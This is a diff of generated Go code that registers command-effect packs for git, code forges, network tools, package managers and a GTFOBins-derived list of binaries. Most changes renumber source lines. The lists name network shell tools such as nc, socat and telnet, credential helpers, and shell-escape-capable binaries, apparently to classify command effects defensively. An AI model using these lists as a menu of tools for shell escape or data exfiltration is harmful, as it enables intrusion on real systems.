+		{line: 391, kind: "program", exes: []string{"tea"}, subs: []string{"pulls", "pull", "pr", "issues", "issue", "i", "releases", "release", "r", "repos", "repo", "labels", "label", "milestones", "milestone", "ms", "notifications", "notification", "n", "times", "time", "t", "branches", "branch", "organizations", "organization", "org", "webhooks", "webhook"}, trigger: "", build: effectsForgesL391},
+		{line: 400, kind: "program", exes: []string{"tea"}, subs: []string{"pulls", "pull", "pr", "issues", "issue", "i", "releases", "release", "r", "repos", "repo", "labels", "label", "milestones", "milestone", "ms", "comment", "c", "times", "time", "t", "branches", "branch", "organizations", "organization", "org", "webhooks", "webhook"}, trigger: "", build: effectsForgesL400},
+		{line: 410, kind: "program", exes: []string{"git-lfs"}, subs: nil, trigger: "", build: effectsForgesL410},
+		{line: 419, kind: "program", exes: []string{"git-lfs"}, subs: []string{"ls-files", "status", "env", "version", "logs", "track", "locks", "ext", "fsck", "pointer"}, trigger: "", build: effectsForgesL419},
+		{line: 428, kind: "program", exes: []string{"git-lfs"}, subs: []string{"pull", "fetch", "push", "clone", "checkout", "install", "uninstall", "untrack", "migrate", "prune", "lock", "unlock", "update", "dedup", "smudge", "clean", "filter-process", "post-checkout", "post-commit", "post-merge", "pre-push", "standalone-file", "merge-driver"}, trigger: "", build: effectsForgesL428},
 	}},
 	{file: "effects/git.toml", header: packHeader{Name: "effects-git", Executables: []string{"git"}}, blocks: []genBlock{
 		{line: 19, kind: "program", exes: []string{"git"}, subs: nil, trigger: "", build: effectsGitL19},
@@ -1187,19 +1196,19 @@ var generatedPacks = []genPack{
 		{line: 1155, kind: "program", exes: []string{"git"}, subs: []string{"pull"}, trigger: "", build: effectsGitL1155},
 		{line: 1179, kind: "program", exes: []string{"git"}, subs: []string{"fetch"}, trigger: "", build: effectsGitL1179},
 		{line: 1203, kind: "program", exes: []string{"git"}, subs: []string{"push"}, trigger: "", build: effectsGitL1203},
-		{line: 1225, kind: "program", exes: []string{"git"}, subs: []string{"clone"}, trigger: "", build: effectsGitL1225},
-		{line: 1255, kind: "program", exes: []string{"git"}, subs: []string{"init"}, trigger: "", build: effectsGitL1255},
-		{line: 1267, kind: "program", exes: []string{"git"}, subs: []string{"gc", "maintenance", "prune", "repack", "pack-refs", "prune-packed", "commit-graph", "multi-pack-index", "rerere"}, trigger: "", build: effectsGitL1267},
-		{line: 1277, kind: "program", exes: []string{"git"}, subs: []string{"format-patch"}, trigger: "", build: effectsGitL1277},
-		{line: 1296, kind: "program", exes: []string{"git"}, subs: []string{"archive"}, trigger: "", build: effectsGitL1296},
-		{line: 1316, kind: "program", exes: []string{"git"}, subs: []string{"bundle"}, trigger: "", build: effectsGitL1316},
-		{line: 1323, kind: "program", exes: []string{"git"}, subs: []string{"bundle"}, trigger: "", build: effectsGitL1323},
-		{line: 1333, kind: "program", exes: []string{"git"}, subs: []string{"update-ref", "symbolic-ref", "update-index", "read-tree", "write-tree", "commit-tree", "mktag", "mktree", "replace", "checkout-index", "merge-tree", "merge-file", "fast-import", "unpack-objects", "pack-objects", "index-pack", "unpack-file", "mailinfo", "mailsplit", "filter-branch", "send-email", "request-pull", "imap-send", "difftool", "mergetool", "for-each-repo", "hook", "instaweb", "daemon", "credential", "credential-store", "credential-cache", "svn", "p4", "cvsimport", "cvsexportcommit", "cvsserver", "quiltimport", "archimport", "gui", "citool", "gitk", "scalar", "bugreport", "diagnose", "upload-pack", "receive-pack", "upload-archive", "http-backend", "fetch-pack", "send-pack", "shell", "remote-ext", "remote-fd"}, trigger: "", build: effectsGitL1333},
-		{line: 1341, kind: "program", exes: []string{"git"}, subs: []string{"credential", "credential-store", "credential-cache"}, trigger: "", build: effectsGitL1341},
-		{line: 1347, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1347},
-		{line: 1354, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1354},
-		{line: 1363, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1363},
-		{line: 1371, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1371},
+		{line: 1231, kind: "program", exes: []string{"git"}, subs: []string{"clone"}, trigger: "", build: effectsGitL1231},
+		{line: 1261, kind: "program", exes: []string{"git"}, subs: []string{"init"}, trigger: "", build: effectsGitL1261},
+		{line: 1273, kind: "program", exes: []string{"git"}, subs: []string{"gc", "maintenance", "prune", "repack", "pack-refs", "prune-packed", "commit-graph", "multi-pack-index", "rerere"}, trigger: "", build: effectsGitL1273},
+		{line: 1283, kind: "program", exes: []string{"git"}, subs: []string{"format-patch"}, trigger: "", build: effectsGitL1283},
+		{line: 1302, kind: "program", exes: []string{"git"}, subs: []string{"archive"}, trigger: "", build: effectsGitL1302},
+		{line: 1322, kind: "program", exes: []string{"git"}, subs: []string{"bundle"}, trigger: "", build: effectsGitL1322},
+		{line: 1329, kind: "program", exes: []string{"git"}, subs: []string{"bundle"}, trigger: "", build: effectsGitL1329},
+		{line: 1339, kind: "program", exes: []string{"git"}, subs: []string{"update-ref", "symbolic-ref", "update-index", "read-tree", "write-tree", "commit-tree", "mktag", "mktree", "replace", "checkout-index", "merge-tree", "merge-file", "fast-import", "unpack-objects", "pack-objects", "index-pack", "unpack-file", "mailinfo", "mailsplit", "filter-branch", "send-email", "request-pull", "imap-send", "difftool", "mergetool", "for-each-repo", "hook", "instaweb", "daemon", "credential", "credential-store", "credential-cache", "svn", "p4", "cvsimport", "cvsexportcommit", "cvsserver", "quiltimport", "archimport", "gui", "citool", "gitk", "scalar", "bugreport", "diagnose", "upload-pack", "receive-pack", "upload-archive", "http-backend", "fetch-pack", "send-pack", "shell", "remote-ext", "remote-fd"}, trigger: "", build: effectsGitL1339},
+		{line: 1347, kind: "program", exes: []string{"git"}, subs: []string{"credential", "credential-store", "credential-cache"}, trigger: "", build: effectsGitL1347},
+		{line: 1353, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1353},
+		{line: 1360, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1360},
+		{line: 1369, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1369},
+		{line: 1377, kind: "program", exes: []string{"git"}, subs: []string{"lfs"}, trigger: "", build: effectsGitL1377},
 	}},
 	{file: "effects/gtfobins-a-l.toml", header: packHeader{Name: "effects-gtfobins-a-l", Executables: []string{"aa-exec", "ab", "acr", "agetty", "alpine", "ansible-playbook", "aoss", "apache2", "apache2ctl", "apport-cli", "arch-nspawn", "arj", "ascii-xfr", "ascii85", "ash", "dash", "aspell", "asterisk", "at", "atobm", "autoconf", "autoheader", "autoreconf", "base58", "basez", "bash", "ksh", "bashbug", "bbot", "bc", "bconsole", "bpftrace", "bridge", "busctl", "busybox", "byebug", "cabal", "cancel", "capsh", "cdist", "chattr", "check_by_ssh", "check_cups", "check_log", "check_memory", "check_raid", "check_ssl_cert", "check_statusfile", "choom", "chrt", "clamscan", "clisp", "cobc", "code", "codex", "cowsay", "cowthink", "cpan", "cpulimit", "crash", "csh", "csvtool", "cupsfilter", "dc", "debugfs", "dhclient", "dialog", "distcc", "dmidecode", "dmsetup", "dnsmasq", "doas", "dosbox", "dstat", "dvips", "easy_install", "eb", "ed", "red", "efax", "elvish", "emacs", "enscript", "eqn", "espeak", "ex", "exiftool", "expect", "facter", "fail2ban-client", "fastfetch", "ffmpeg", "finger", "firejail", "fish", "flock", "forge", "fping", "gcore", "gdb", "genie", "genisoimage", "gimp", "ginsh", "gnuplot", "grc", "gtester", "guile", "hashcat", "hg", "highlight", "hping3", "iftop", "ionice", "iptables-save", "irb", "ispell", "jjs", "joe", "jrunscript", "jshell", "jtag", "ksshell", "ksu", "latex", "xelatex", "lualatex", "luatex", "latexmk", "ld.so", "ld-linux.so.2", "ld-linux-x86-64.so.2", "ld-linux-aarch64.so.1", "ldconfig", "links", "logrotate", "logsave", "lp", "ltrace", "lwp-download", "lwp-request", "lxd"}}, blocks: []genBlock{
 		{line: 6, kind: "exe", exes: []string{"atobm"}, subs: nil, trigger: "", build: effectsGtfobinsALL6},
@@ -1535,115 +1544,117 @@ var generatedPacks = []genPack{
 	{file: "effects/network.toml", header: packHeader{Name: "effects-network", Executables: []string{"curl", "wget", "http", "https", "xh", "aria2c", "lftp", "ftp", "tftp", "ssh", "scp", "sftp", "rsync", "nc", "netcat", "ncat", "socat", "telnet", "openvpn", "tailscale", "sshpass", "sshfs", "ssh-copy-id", "ssh-keyscan"}}, blocks: []genBlock{
 		{line: 6, kind: "exe", exes: []string{"socat"}, subs: nil, trigger: "", build: effectsNetworkL6},
 		{line: 9, kind: "exe", exes: []string{"tailscale"}, subs: nil, trigger: "", build: effectsNetworkL9},
-		{line: 23, kind: "program", exes: []string{"curl"}, subs: nil, trigger: "", build: effectsNetworkL23},
-		{line: 119, kind: "program", exes: []string{"wget"}, subs: nil, trigger: "", build: effectsNetworkL119},
-		{line: 190, kind: "program", exes: []string{"http", "https", "xh"}, subs: nil, trigger: "", build: effectsNetworkL190},
-		{line: 220, kind: "program", exes: []string{"aria2c"}, subs: nil, trigger: "", build: effectsNetworkL220},
-		{line: 273, kind: "program", exes: []string{"lftp"}, subs: nil, trigger: "", build: effectsNetworkL273},
-		{line: 288, kind: "program", exes: []string{"ftp"}, subs: nil, trigger: "", build: effectsNetworkL288},
-		{line: 300, kind: "program", exes: []string{"tftp"}, subs: nil, trigger: "", build: effectsNetworkL300},
-		{line: 318, kind: "program", exes: []string{"ssh"}, subs: nil, trigger: "", build: effectsNetworkL318},
-		{line: 342, kind: "program", exes: []string{"scp"}, subs: nil, trigger: "", build: effectsNetworkL342},
-		{line: 364, kind: "program", exes: []string{"sftp"}, subs: nil, trigger: "", build: effectsNetworkL364},
-		{line: 384, kind: "program", exes: []string{"rsync"}, subs: nil, trigger: "", build: effectsNetworkL384},
-		{line: 453, kind: "program", exes: []string{"sshfs"}, subs: nil, trigger: "", build: effectsNetworkL453},
-		{line: 467, kind: "program", exes: []string{"ssh-copy-id"}, subs: nil, trigger: "", build: effectsNetworkL467},
-		{line: 481, kind: "program", exes: []string{"ssh-keyscan"}, subs: nil, trigger: "", build: effectsNetworkL481},
-		{line: 493, kind: "program", exes: []string{"sshpass"}, subs: nil, trigger: "", build: effectsNetworkL493},
-		{line: 505, kind: "program", exes: []string{"nc", "netcat"}, subs: nil, trigger: "", build: effectsNetworkL505},
-		{line: 521, kind: "program", exes: []string{"ncat"}, subs: nil, trigger: "", build: effectsNetworkL521},
-		{line: 550, kind: "program", exes: []string{"socat"}, subs: nil, trigger: "", build: effectsNetworkL550},
-		{line: 566, kind: "program", exes: []string{"telnet"}, subs: nil, trigger: "", build: effectsNetworkL566},
-		{line: 581, kind: "program", exes: []string{"openvpn"}, subs: nil, trigger: "", build: effectsNetworkL581},
-		{line: 607, kind: "program", exes: []string{"tailscale"}, subs: nil, trigger: "", build: effectsNetworkL607},
-		{line: 614, kind: "program", exes: []string{"tailscale"}, subs: []string{"status"}, trigger: "", build: effectsNetworkL614},
-		{line: 621, kind: "program", exes: []string{"tailscale"}, subs: []string{"ip", "version", "whois", "id-token", "licenses", "exit-node"}, trigger: "", build: effectsNetworkL621},
-		{line: 627, kind: "program", exes: []string{"tailscale"}, subs: []string{"netcheck", "ping", "nc", "dns"}, trigger: "", build: effectsNetworkL627},
-		{line: 635, kind: "program", exes: []string{"tailscale"}, subs: []string{"up", "down", "login", "logout", "set", "switch", "cert", "configure", "file", "serve", "funnel", "ssh", "drive", "lock", "update", "bugreport", "debug", "web"}, trigger: "", build: effectsNetworkL635},
+		{line: 25, kind: "program", exes: []string{"curl"}, subs: nil, trigger: "", build: effectsNetworkL25},
+		{line: 144, kind: "program", exes: []string{"wget"}, subs: nil, trigger: "", build: effectsNetworkL144},
+		{line: 215, kind: "program", exes: []string{"http", "https", "xh"}, subs: nil, trigger: "", build: effectsNetworkL215},
+		{line: 245, kind: "program", exes: []string{"aria2c"}, subs: nil, trigger: "", build: effectsNetworkL245},
+		{line: 298, kind: "program", exes: []string{"lftp"}, subs: nil, trigger: "", build: effectsNetworkL298},
+		{line: 313, kind: "program", exes: []string{"ftp"}, subs: nil, trigger: "", build: effectsNetworkL313},
+		{line: 325, kind: "program", exes: []string{"tftp"}, subs: nil, trigger: "", build: effectsNetworkL325},
+		{line: 343, kind: "program", exes: []string{"ssh"}, subs: nil, trigger: "", build: effectsNetworkL343},
+		{line: 367, kind: "program", exes: []string{"scp"}, subs: nil, trigger: "", build: effectsNetworkL367},
+		{line: 389, kind: "program", exes: []string{"sftp"}, subs: nil, trigger: "", build: effectsNetworkL389},
+		{line: 409, kind: "program", exes: []string{"rsync"}, subs: nil, trigger: "", build: effectsNetworkL409},
+		{line: 478, kind: "program", exes: []string{"sshfs"}, subs: nil, trigger: "", build: effectsNetworkL478},
+		{line: 492, kind: "program", exes: []string{"ssh-copy-id"}, subs: nil, trigger: "", build: effectsNetworkL492},
+		{line: 506, kind: "program", exes: []string{"ssh-keyscan"}, subs: nil, trigger: "", build: effectsNetworkL506},
+		{line: 518, kind: "program", exes: []string{"sshpass"}, subs: nil, trigger: "", build: effectsNetworkL518},
+		{line: 530, kind: "program", exes: []string{"nc", "netcat"}, subs: nil, trigger: "", build: effectsNetworkL530},
+		{line: 549, kind: "program", exes: []string{"ncat"}, subs: nil, trigger: "", build: effectsNetworkL549},
+		{line: 578, kind: "program", exes: []string{"socat"}, subs: nil, trigger: "", build: effectsNetworkL578},
+		{line: 594, kind: "program", exes: []string{"telnet"}, subs: nil, trigger: "", build: effectsNetworkL594},
+		{line: 609, kind: "program", exes: []string{"openvpn"}, subs: nil, trigger: "", build: effectsNetworkL609},
+		{line: 635, kind: "program", exes: []string{"tailscale"}, subs: nil, trigger: "", build: effectsNetworkL635},
+		{line: 642, kind: "program", exes: []string{"tailscale"}, subs: []string{"status"}, trigger: "", build: effectsNetworkL642},
+		{line: 649, kind: "program", exes: []string{"tailscale"}, subs: []string{"ip", "version", "whois", "id-token", "licenses", "exit-node"}, trigger: "", build: effectsNetworkL649},
+		{line: 655, kind: "program", exes: []string{"tailscale"}, subs: []string{"netcheck", "ping", "nc", "dns"}, trigger: "", build: effectsNetworkL655},
+		{line: 663, kind: "program", exes: []string{"tailscale"}, subs: []string{"up", "down", "login", "logout", "set", "switch", "cert", "configure", "file", "serve", "funnel", "ssh", "drive", "lock", "update", "bugreport", "debug", "web"}, trigger: "", build: effectsNetworkL663},
 	}},
 	{file: "effects/packages.toml", header: packHeader{Name: "effects-packages", Description: "Effect model of package managers, system (apt, dpkg, rpm, dnf, pacman, apk, brew, snap, ...) and language (npm, yarn, pnpm, pip, uv, poetry, conda, gem, bundle, composer): querying what is installed is a read, searching a remote index reaches the network, installing, removing and upgrading reach the network, write and run install scripts.", Executables: []string{"apt", "apt-get", "aptitude", "dpkg", "rpm", "dnf", "yum", "pacman", "apk", "zypper", "brew", "port", "snap", "flatpak", "opkg", "npm", "npx", "yarn", "pnpm", "pip", "pip3", "pipx", "uv", "poetry", "hatch", "conda", "mamba", "composer", "gem", "bundle", "bundler"}}, blocks: []genBlock{
 		{line: 9, kind: "program", exes: []string{"apt", "apt-get", "aptitude"}, subs: nil, trigger: "", build: effectsPackagesL9},
 		{line: 30, kind: "program", exes: []string{"apt", "aptitude"}, subs: []string{"list", "search", "show", "showpkg", "policy", "depends", "rdepends", "showsrc", "versions", "why", "why-not", "madison", "stats", "pkgnames", "dotty", "xvcg"}, trigger: "", build: effectsPackagesL30},
-		{line: 46, kind: "program", exes: []string{"apt", "apt-get", "aptitude"}, subs: []string{"install", "reinstall", "remove", "purge", "autoremove", "autopurge", "update", "upgrade", "full-upgrade", "dist-upgrade", "safe-upgrade", "satisfy", "build-dep", "source", "download", "clean", "autoclean", "changelog", "check", "dselect-upgrade", "markauto", "unmarkauto", "hold", "unhold", "forget-new", "keep", "keep-all", "edit-sources", "moo", "indep-dep", "build-depends"}, trigger: "", build: effectsPackagesL46},
-		{line: 62, kind: "program", exes: []string{"dpkg"}, subs: nil, trigger: "", build: effectsPackagesL62},
-		{line: 80, kind: "program", exes: []string{"rpm"}, subs: nil, trigger: "", build: effectsPackagesL80},
-		{line: 104, kind: "program", exes: []string{"opkg"}, subs: nil, trigger: "", build: effectsPackagesL104},
-		{line: 110, kind: "program", exes: []string{"opkg"}, subs: []string{"list", "list-installed", "list-upgradable", "info", "status", "files", "search", "find", "print-architecture", "depends", "whatdepends", "whatdependsrec", "whatprovides", "whatconflicts", "whatreplaces", "compare-versions"}, trigger: "", build: effectsPackagesL110},
-		{line: 118, kind: "program", exes: []string{"opkg"}, subs: []string{"update", "install", "remove", "upgrade", "configure", "flag", "clean", "download"}, trigger: "", build: effectsPackagesL118},
-		{line: 126, kind: "program", exes: []string{"dnf", "yum"}, subs: nil, trigger: "", build: effectsPackagesL126},
-		{line: 138, kind: "program", exes: []string{"dnf", "yum"}, subs: []string{"list", "info", "search", "provides", "whatprovides", "repolist", "repoquery", "rq", "deplist", "check-update", "updateinfo", "repoinfo", "changelog", "group", "groups", "module", "alias", "history", "makecache", "check", "mark", "download", "config-manager"}, trigger: "", build: effectsPackagesL138},
-		{line: 148, kind: "program", exes: []string{"dnf", "yum"}, subs: []string{"install", "in", "reinstall", "remove", "rm", "erase", "autoremove", "upgrade", "up", "update", "distro-sync", "dsync", "downgrade", "swap", "clean", "localinstall", "groupinstall", "builddep", "shell", "upgrade-minimal", "offline-upgrade", "system-upgrade"}, trigger: "", build: effectsPackagesL148},
-		{line: 157, kind: "program", exes: []string{"zypper"}, subs: nil, trigger: "", build: effectsPackagesL157},
-		{line: 170, kind: "program", exes: []string{"zypper"}, subs: []string{"repos", "lr", "services", "ls", "locks", "ll", "products", "pd"}, trigger: "", build: effectsPackagesL170},
-		{line: 177, kind: "program", exes: []string{"zypper"}, subs: []string{"search", "se", "info", "if", "packages", "pa", "patterns", "pt", "patches", "list-updates", "lu", "list-patches", "lp", "what-provides", "wp", "patch-check", "pchk"}, trigger: "", build: effectsPackagesL177},
-		{line: 187, kind: "program", exes: []string{"zypper"}, subs: []string{"install", "in", "remove", "rm", "update", "up", "dist-upgrade", "dup", "patch", "refresh", "ref", "addrepo", "ar", "removerepo", "rr", "modifyrepo", "mr", "renamerepo", "nr", "addlock", "al", "removelock", "rl", "clean", "cc", "verify", "ve", "install-new-recommends", "inr", "source-install", "si", "source-download", "shell", "sh", "addservice", "as", "removeservice", "rs", "refresh-services", "refs", "migration"}, trigger: "", build: effectsPackagesL187},
-		{line: 196, kind: "program", exes: []string{"pacman"}, subs: nil, trigger: "", build: effectsPackagesL196},
-		{line: 217, kind: "program", exes: []string{"apk"}, subs: nil, trigger: "", build: effectsPackagesL217},
-		{line: 227, kind: "program", exes: []string{"apk"}, subs: []string{"info", "list", "search", "policy", "dot", "stats", "version", "audit", "verify", "manifest", "query"}, trigger: "", build: effectsPackagesL227},
-		{line: 238, kind: "program", exes: []string{"apk"}, subs: []string{"add", "del", "fix", "update", "upgrade", "cache", "fetch", "index", "mkpkg", "extract", "convndx", "convdb"}, trigger: "", build: effectsPackagesL238},
-		{line: 249, kind: "program", exes: []string{"brew"}, subs: nil, trigger: "", build: effectsPackagesL249},
-		{line: 263, kind: "program", exes: []string{"brew"}, subs: []string{"list", "ls", "deps", "uses", "leaves", "config", "doctor", "dr", "cat", "commands", "shellenv", "formulae", "casks", "missing", "readall", "options", "log", "desc", "tap-info"}, trigger: "", build: effectsPackagesL263},
-		{line: 275, kind: "program", exes: []string{"brew"}, subs: []string{"info", "abv", "search", "outdated", "home", "homepage", "docs", "tap", "untap", "install", "reinstall", "uninstall", "remove", "rm", "upgrade", "update", "cleanup", "autoremove", "link", "ln", "unlink", "pin", "unpin", "edit", "bundle", "services", "trust", "fetch", "create", "extract", "audit", "style", "test", "livecheck", "bump", "ruby", "irb", "sh", "migrate", "developer", "analytics", "completions", "update-reset", "tap-new", "gist-logs", "postinstall", "unalias", "alias", "which-formula", "command-not-found-init"}, trigger: "", build: effectsPackagesL275},
-		{line: 281, kind: "program", exes: []string{"port"}, subs: nil, trigger: "", build: effectsPackagesL281},
-		{line: 290, kind: "program", exes: []string{"port"}, subs: []string{"installed", "list", "search", "info", "deps", "rdeps", "dependents", "rdependents", "contents", "provides", "echo", "outdated", "variants", "location", "dir", "file", "cat", "url", "version", "platform", "notes", "usage", "logfile", "work"}, trigger: "", build: effectsPackagesL290},
-		{line: 297, kind: "program", exes: []string{"port"}, subs: []string{"install", "uninstall", "upgrade", "selfupdate", "sync", "clean", "activate", "deactivate", "select", "load", "unload", "reload", "edit", "fetch", "checksum", "extract", "patch", "configure", "build", "destroot", "test", "mpkg", "pkg", "dmg", "archive", "reclaim", "migrate", "setrequested", "unsetrequested", "diagnose", "lint", "mirror", "distcheck", "livecheck", "gohome"}, trigger: "", build: effectsPackagesL297},
-		{line: 303, kind: "program", exes: []string{"snap"}, subs: nil, trigger: "", build: effectsPackagesL303},
-		{line: 308, kind: "program", exes: []string{"snap"}, subs: []string{"list", "version", "services", "changes", "tasks", "change", "connections", "interfaces", "aliases", "model", "known", "warnings", "logs", "routine", "debug", "saved", "validate", "components"}, trigger: "", build: effectsPackagesL308},
-		{line: 316, kind: "program", exes: []string{"snap"}, subs: []string{"info", "find", "search", "install", "remove", "refresh", "revert", "enable", "disable", "set", "unset", "get", "start", "stop", "restart", "connect", "disconnect", "alias", "unalias", "prefer", "run", "login", "logout", "buy", "download", "ack", "create-user", "remove-user", "switch", "save", "restore", "forget", "pack", "try", "abort", "okay", "whoami", "wait", "watch", "prepare-image", "recovery", "reboot", "quota", "remove-quota", "set-quota", "sign", "sign-build", "create-cohort", "export-key", "keys", "create-key"}, trigger: "", build: effectsPackagesL316},
-		{line: 322, kind: "program", exes: []string{"flatpak"}, subs: nil, trigger: "", build: effectsPackagesL322},
-		{line: 327, kind: "program", exes: []string{"flatpak"}, subs: []string{"list", "info", "remotes", "remote-info", "history", "ps", "documents", "permissions", "permission-show", "config", "search", "mask", "pin"}, trigger: "", build: effectsPackagesL327},
-		{line: 337, kind: "program", exes: []string{"flatpak"}, subs: []string{"install", "uninstall", "update", "upgrade", "run", "enter", "kill", "remote-add", "remote-modify", "remote-delete", "remote-ls", "repair", "override", "make-current", "create-usb", "document-export", "document-unexport", "permission-remove", "permission-set", "permission-reset", "build", "build-init", "build-finish", "build-export", "build-bundle", "build-import-bundle", "build-sign", "build-update-repo", "build-commit-from", "repo", "spawn"}, trigger: "", build: effectsPackagesL337},
-		{line: 345, kind: "program", exes: []string{"npm"}, subs: nil, trigger: "", build: effectsPackagesL345},
-		{line: 370, kind: "program", exes: []string{"npm"}, subs: []string{"ls", "list", "ll", "la", "explain", "why", "prefix", "root", "fund", "query", "sbom", "help", "help-search", "completion", "bin"}, trigger: "", build: effectsPackagesL370},
-		{line: 380, kind: "program", exes: []string{"npm"}, subs: []string{"config", "c"}, trigger: "", build: effectsPackagesL380},
-		{line: 387, kind: "program", exes: []string{"npm"}, subs: []string{"view", "v", "info", "show", "search", "s", "se", "find", "outdated", "audit", "doctor", "whoami", "ping", "diff", "dist-tag", "dist-tags", "owner", "author", "access", "team", "org", "star", "stars", "unstar", "deprecate", "unpublish", "profile", "hook", "token", "adduser", "add-user", "login", "logout", "publish", "repo", "docs", "home", "bugs", "issues"}, trigger: "", build: effectsPackagesL387},
-		{line: 395, kind: "program", exes: []string{"npm"}, subs: []string{"test", "tst", "t", "start", "stop", "restart", "run", "run-script", "rum", "urn", "exec", "x", "install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "isntall", "add", "ci", "clean-install", "ic", "install-clean", "isntall-clean", "install-test", "it", "install-ci-test", "cit", "update", "up", "upgrade", "udpate", "rebuild", "rb", "link", "ln", "pack", "version", "verison", "init", "create", "innit", "edit", "explore", "dedupe", "ddp", "prune", "uninstall", "unlink", "remove", "rm", "r", "un", "shrinkwrap", "set", "cache", "pkg", "config", "c", "set-script"}, trigger: "", build: effectsPackagesL395},
-		{line: 402, kind: "program", exes: []string{"npx"}, subs: nil, trigger: "", build: effectsPackagesL402},
-		{line: 409, kind: "program", exes: []string{"yarn"}, subs: nil, trigger: "", build: effectsPackagesL409},
-		{line: 426, kind: "program", exes: []string{"yarn"}, subs: []string{"list", "why", "bin", "licenses"}, trigger: "", build: effectsPackagesL426},
-		{line: 433, kind: "program", exes: []string{"yarn"}, subs: []string{"config", "workspaces", "cache"}, trigger: "", build: effectsPackagesL433},
-		{line: 439, kind: "program", exes: []string{"yarn"}, subs: []string{"info", "npm", "outdated", "audit", "search", "upgrade-interactive", "dlx", "create", "publish", "login", "logout", "owner", "tag", "team", "pack", "version", "policies", "set", "plugin", "import", "link", "unlink", "install", "add", "remove", "upgrade", "up", "run", "test", "exec", "node", "generate-lock-entry", "global", "autoclean", "check", "dedupe", "patch", "patch-commit", "rebuild", "explain", "constraints", "stage", "init"}, trigger: "", build: effectsPackagesL439},
-		{line: 446, kind: "program", exes: []string{"pnpm"}, subs: nil, trigger: "", build: effectsPackagesL446},
-		{line: 460, kind: "program", exes: []string{"pnpm"}, subs: []string{"ls", "list", "ll", "la", "why", "root", "bin", "licenses"}, trigger: "", build: effectsPackagesL460},
-		{line: 468, kind: "program", exes: []string{"pnpm"}, subs: []string{"config", "c", "store"}, trigger: "", build: effectsPackagesL468},
-		{line: 475, kind: "program", exes: []string{"pnpm"}, subs: []string{"install", "i", "add", "remove", "rm", "uninstall", "un", "update", "up", "upgrade", "link", "ln", "unlink", "prune", "rebuild", "rb", "run", "run-script", "test", "t", "start", "exec", "dlx", "create", "publish", "pack", "outdated", "audit", "import", "fetch", "patch", "patch-commit", "dedupe", "deploy", "env", "setup", "server", "init", "doctor", "approve-builds", "install-test", "it", "self-update", "config", "c", "cat-file", "cat-index", "find-hash", "version", "store"}, trigger: "", build: effectsPackagesL475},
-		{line: 483, kind: "program", exes: []string{"pip", "pip3"}, subs: nil, trigger: "", build: effectsPackagesL483},
-		{line: 504, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"list", "show", "freeze", "check", "inspect", "debug", "help", "hash"}, trigger: "", build: effectsPackagesL504},
-		{line: 524, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL524},
-		{line: 530, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"config"}, trigger: "", build: effectsPackagesL530},
-		{line: 539, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"cache"}, trigger: "", build: effectsPackagesL539},
-		{line: 545, kind: "program", exes: []string{"pip", "pip3"}, subs: []string{"install", "download", "wheel", "uninstall", "search", "index", "cache", "lock", "config"}, trigger: "", build: effectsPackagesL545},
-		{line: 552, kind: "program", exes: []string{"pipx"}, subs: nil, trigger: "", build: effectsPackagesL552},
-		{line: 557, kind: "program", exes: []string{"pipx"}, subs: []string{"list", "environment", "completions"}, trigger: "", build: effectsPackagesL557},
-		{line: 564, kind: "program", exes: []string{"pipx"}, subs: []string{"run", "install", "install-all", "uninstall", "uninstall-all", "upgrade", "upgrade-all", "upgrade-shared", "reinstall", "reinstall-all", "inject", "uninject", "runpip", "ensurepath", "pin", "unpin", "interpreter"}, trigger: "", build: effectsPackagesL564},
-		{line: 570, kind: "program", exes: []string{"uv"}, subs: nil, trigger: "", build: effectsPackagesL570},
-		{line: 584, kind: "program", exes: []string{"uv"}, subs: []string{"pip"}, trigger: "", build: effectsPackagesL584},
-		{line: 592, kind: "program", exes: []string{"uv"}, subs: []string{"python", "tool", "cache"}, trigger: "", build: effectsPackagesL592},
-		{line: 601, kind: "program", exes: []string{"uv"}, subs: []string{"version", "help", "generate-shell-completion"}, trigger: "", build: effectsPackagesL601},
-		{line: 610, kind: "program", exes: []string{"uv"}, subs: []string{"sync", "lock", "add", "remove", "tree", "export", "init", "build", "publish", "venv", "pip", "tool", "python", "cache", "self", "format", "auth"}, trigger: "", build: effectsPackagesL610},
-		{line: 618, kind: "program", exes: []string{"uv"}, subs: []string{"run"}, trigger: "", build: effectsPackagesL618},
-		{line: 632, kind: "program", exes: []string{"poetry"}, subs: nil, trigger: "", build: effectsPackagesL632},
-		{line: 640, kind: "program", exes: []string{"poetry"}, subs: []string{"show", "check", "about", "list", "help"}, trigger: "", build: effectsPackagesL640},
-		{line: 652, kind: "program", exes: []string{"poetry"}, subs: []string{"env", "config", "cache", "source"}, trigger: "", build: effectsPackagesL652},
-		{line: 658, kind: "program", exes: []string{"poetry"}, subs: []string{"install", "update", "add", "remove", "lock", "run", "shell", "build", "publish", "export", "init", "new", "search", "self", "env", "config", "cache", "source", "version", "sync", "debug", "python"}, trigger: "", build: effectsPackagesL658},
-		{line: 665, kind: "program", exes: []string{"hatch"}, subs: nil, trigger: "", build: effectsPackagesL665},
-		{line: 674, kind: "program", exes: []string{"hatch"}, subs: []string{"status"}, trigger: "", build: effectsPackagesL674},
-		{line: 679, kind: "program", exes: []string{"hatch"}, subs: []string{"env", "config", "dep", "python"}, trigger: "", build: effectsPackagesL679},
-		{line: 685, kind: "program", exes: []string{"hatch"}, subs: []string{"run", "test", "build", "shell", "env", "version", "new", "publish", "clean", "fmt", "project", "dep", "config", "python", "self"}, trigger: "", build: effectsPackagesL685},
-		{line: 693, kind: "program", exes: []string{"conda", "mamba"}, subs: nil, trigger: "", build: effectsPackagesL693},
-		{line: 704, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"list", "info", "doctor"}, trigger: "", build: effectsPackagesL704},
-		{line: 713, kind: "program", exes: []string{"conda", "mamba"}, subs: []string{"env"}, trigger: "", build: effectsPackagesL713},
